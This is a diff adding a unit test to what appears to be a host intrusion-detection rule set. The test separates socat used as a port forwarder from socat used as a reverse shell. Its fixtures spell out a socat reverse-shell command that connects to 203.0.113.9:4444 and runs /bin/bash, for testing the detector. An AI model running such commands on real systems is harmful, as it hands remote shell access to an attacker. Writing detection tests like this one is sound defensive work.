@@ -157,6 +157,21 @@ test("staged-data-exfiltration: rclone to a remote counts with a dropper's signs
   t.same(history("rclone copy /tmp/report.csv gdrive:reports"), [], "a packaged rclone copying a plain temp file: no dropper's sign");
 });
 
+test("socat joining two sockets is a port forwarder: no reverse shell, no shell-like listener; socat running a shell is both", async (t) => {
+  const forwarder = proc(1317, "socat", "/usr/bin/socat", "/usr/bin/socat TCP4-LISTEN:8443,fork,reuseaddr TCP4:10.70.0.15:443");
+  const h = host({
+    processes: [forwarder],
+    process_open_sockets: [sock(1317, "10.70.0.15", 443)],
+    listening_ports: [{ pid: "1317", port: "8443", protocol: "6", family: "2", address: "0.0.0.0" }],
+  });
+  t.same(findings(run("reverse-shell", h)), [], "a forwarder holds connections and runs nothing");
+  t.notMatch(run("unexpected-listener", h)[0]?.summary ?? "", /shell or netcat-like/);
+  const shell = proc(1318, "socat", "/usr/bin/socat", "socat TCP:203.0.113.9:4444 EXEC:/bin/bash,pty,stderr,setsid");
+  t.equal(findings(run("reverse-shell", host({ processes: [shell], process_open_sockets: [sock(1318, "203.0.113.9", 4444)] }))).length, 1, "EXEC: runs a shell");
+  const stdio = proc(1319, "socat", "/usr/bin/socat", "socat - TCP:203.0.113.9:4444");
+  t.equal(findings(run("reverse-shell", host({ processes: [stdio], process_open_sockets: [sock(1319, "203.0.113.9", 4444)] }))).length, 1, "its stdio on a socket is still a netcat");
+});
+
 test("listeners: a default port only when its default program holds it", async (t) => {
   const rows = (pid: number, port: number) => ({ pid: String(pid), port: String(port), protocol: "6", address: "0.0.0.0" });
   const shellOn9100 = run("unexpected-listener", host({ listening_ports: [rows(5, 9100)], processes: [proc(5, "bash", "/usr/bin/bash", "bash")] }));
